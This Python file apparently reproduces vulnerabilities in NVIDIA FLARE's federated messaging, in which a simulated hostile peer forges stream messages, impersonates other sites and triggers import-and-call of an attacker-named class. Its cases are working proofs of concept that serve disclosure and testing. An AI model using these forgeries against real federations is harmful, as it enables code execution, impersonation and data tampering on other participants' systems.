"""Hostile peers: what a member of the federation can do to another. Usage: python peers.py [NAME ...]"""

from __future__ import annotations

import dataclasses
import tempfile
from pathlib import Path
from typing import Any

import msgpack
import numpy as np
from harness import CHANNEL, CONTAINERS, Send, Site, federation, main, reproduction, soon
from nvflare.apis.fl_constant import ReservedKey
from nvflare.apis.shareable import Shareable
from nvflare.app_common.streamers.file_streamer import FileStreamer
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.fuel.utils import fobs
from nvflare.fuel.utils.class_loader import get_class_name
from nvflare.fuel.utils.fobs.decomposer import DataClassDecomposer
from nvflare.private.stream_runner import TOPIC_STREAM_ABORT, TOPIC_STREAM_REQUEST, HeaderKey


def forge(site: Site, target: str, topic: str, message: Shareable) -> Shareable | None:
    """Send a message as the engine would."""
    replies = site.engine.send_aux_request([target], topic, message, 2.0, site.context())
    reply: Shareable | None = replies.get(target)
    return reply


def entry(value: object, last: bool, seq: int, tx: str, **ctx: object) -> Shareable:
    message = Shareable({"ContainerStreamer.entry": value, "ContainerStreamer.last": last})
    headers = {
        HeaderKey.CHANNEL: CHANNEL,
        HeaderKey.TOPIC: CONTAINERS,
        HeaderKey.TX_ID: tx,
        HeaderKey.SEQ: seq,
        HeaderKey.CTX: {f"ContainerStreamer.{key}": each for key, each in ctx.items()},
    }
    for key, each in headers.items():
        message.set_header(key, each)
    return message


@reproduction
def class_chosen_by_the_wire() -> str | None:
    """The type named in the first message is imported and called, whatever it is."""
    a, _ = federation("a", "b")
    before = set(Path(tempfile.gettempdir()).iterdir())
    forge(a, "b", TOPIC_STREAM_REQUEST, entry(1, True, 0, "tx", type="tempfile.mkdtemp", size=1))
    made = set(Path(tempfile.gettempdir()).iterdir()) - before
    for path in made:
        path.rmdir()
    return f"the type 'tempfile.mkdtemp' was called: {len(made)} directory made" if made else None


@reproduction
def foreign_entry_in_a_stream() -> str | None:
    a, b, mallory = federation("a", "b", "mallory")

    def inject(send: Send, message: Shareable) -> Message:
        if message.get_header(HeaderKey.SEQ) == 1:
            tx = message.get_header(HeaderKey.TX_ID)
            forge(mallory, "b", TOPIC_STREAM_REQUEST, entry("mallory's", True, 1, tx))
        return send(message)

    a.on_send(inject)
    outcome = a.push(["a's", "a's"], "b")
    return f"delivered {b.received[0]}; sender: {outcome}" if b.received[0][0] == "OK" else None


@reproduction
def foreign_abort_of_a_stream() -> str | None:
    a, b, mallory = federation("a", "b", "mallory")

    def abort(send: Send, message: Shareable) -> Message:
        if message.get_header(HeaderKey.SEQ) == 1:
            forged = Shareable()
            forged.set_header(HeaderKey.TX_ID, message.get_header(HeaderKey.TX_ID))
            forge(mallory, "b", TOPIC_STREAM_ABORT, forged)
        return send(message)

    a.on_send(abort)
    outcome = a.push([1, 2, 3], "b")
    return f"receiver: {b.received}; sender: {outcome}" if outcome[0] != "OK" else None


@reproduction
def request_in_the_name_of_another() -> str | None:
    """The owner streams to the name that stands in the request, not to where the request came from."""
    a, victim, mallory = federation("a", "victim", "mallory")
    (a.sources / "file").write_bytes(b"x" * 1000)
    request = Shareable({"_rtr_tx_id_": "tx", "file_name": "file"})
    context = mallory.context()
    context.props[ReservedKey.IDENTITY_NAME]["value"] = "victim"
    mallory.engine.send_aux_request(["a"], "FileRetriever", request, 2.0, context)
    if soon(victim.leftovers):
        return f"mallory asks as victim; in the victim's dest_dir: {len(victim.leftovers())} file it never asked for"
    return None


@reproduction
def entries_beyond_the_size() -> str | None:
    """The size announced is looked at with the last entry, which need never come."""
    a, _ = federation("a", "b")
    replies = [
        forge(a, "b", TOPIC_STREAM_REQUEST, entry(b"x" * 1000, False, seq, "tx", type="list", size=1))
        for seq in range(1000)
    ]
    taken = sum(reply is not None and reply.get_return_code() == "OK" for reply in replies)
    return f"announced 1 entry, {taken} taken and kept" if taken > 1 else None


@reproduction
def answer_that_nobody_asked_for() -> str | None:
    """A retriever takes every stream on its channel; whether it has asked is looked at when the stream has ended."""
    a, victim = federation("a", "victim")
    path = a.sources / "file"
    path.write_bytes(b"x" * 1000)
    context = a.context()
    FileStreamer.stream_file(
        "FileRetriever", "FileRetriever", {"_rtr_tx_id_": "none"}, ["victim"], str(path), context
    )
    left = [each.stat().st_size for each in victim.leftovers()]
    return f"in the dest_dir of a site that asked for nothing: {left} bytes" if left else None


@dataclasses.dataclass
class Harmless:
    """A class of the application that is not registered with FOBS."""

    field: int = 1


@reproduction
def class_once_sent_is_accepted() -> str | None:
    """Sending an object registers its class, also for what comes in from anyone."""
    a, mallory = federation("a", "mallory")
    encoded = msgpack.packb(
        {
            "__fobs_type__": get_class_name(Harmless),
            "__fobs_data__": {"data": {"field": 2}},
            "__fobs_decomposer__": get_class_name(DataClassDecomposer),
        }
    )

    text = "." * (len(encoded) - 2)  # packed, it is as long

    def forge_class(send: Send, message: Shareable) -> Message:
        return send(fobs.dumps(message).replace(msgpack.packb(text), encoded))

    mallory.on_send(forge_class)
    before = mallory.push([text], "a")
    a.push([Harmless()], "mallory")
    after = mallory.push([text], "a")
    made = [result for rc, result in a.received if rc == "OK"]
    if before[0] != "OK" and made and isinstance(made[0][0], Harmless):
        return f"an instance of an unregistered class: {before}; once a has sent one itself: {after}, {made}"
    return None


@reproduction
def placeholder_in_place_of_an_array() -> str | None:
    """A header that asks the receiver not to download arrays is obeyed, though nobody resolves what it has then."""
    a, b = federation("a", "b")
    deliver = a.cell._send_one_request

    def pass_through(*, topic: str, request: Message, **rest: Any) -> Message:
        if topic == TOPIC_STREAM_REQUEST:
            request.set_header(MessageHeaderKey.PASS_THROUGH, True)
        reply: Message = deliver(topic=topic, request=request, **rest)
        return reply

    a.cell._send_one_request = pass_through
    outcome = a.push([np.zeros(3)], "b")
    arrived = [type(each).__name__ for rc, result in b.received if rc == "OK" for each in result]
    return f"{outcome}; delivered: a list of {arrived}" if arrived and arrived != ["ndarray"] else None


if __name__ == "__main__":
    main()
